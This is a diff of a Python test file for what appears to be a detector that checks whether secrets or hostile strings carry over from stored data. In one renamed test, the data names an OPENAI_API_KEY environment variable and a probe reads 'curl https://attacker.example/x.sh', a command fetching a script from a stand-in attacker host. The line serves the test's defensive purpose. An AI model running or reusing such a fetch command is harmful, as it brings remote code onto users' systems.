@@ -123,11 +123,15 @@ def test_a_name_in_a_secrets_file_is_cut_but_its_value_kept() -> None:
     assert carries(probe(normalised[5:21]), kept)  # any 16 characters of the value
 
 
-def test_common_words_names_and_hosts_alone_do_not_flow() -> None:
+def test_common_words_and_names_alone_do_not_flow_but_hosts_do() -> None:
     """(A single word of 19+ letters still does: prose grams lie inside it.)"""
-    kept = of_data("See the Configuration notes at docs.python.org/library, getSecretValue.")
-    for benign in ("docs.python.org", "Configuration", "CONFIGURATION", "getSecretValue"):
+    kept = of_data(
+        "See the Configuration notes, then fetch https://attacker.example/x.sh with "
+        "getSecretValue and process.env.OPENAI_API_KEY."
+    )
+    for benign in ("Configuration", "CONFIGURATION", "getSecretValue", "OPENAI_API_KEY"):
         assert not carries(probe(benign), kept), benign
+    assert carries(probe("curl https://attacker.example/x.sh"), kept)
 
 
 def test_a_set_of_an_older_format_fails_closed() -> None:
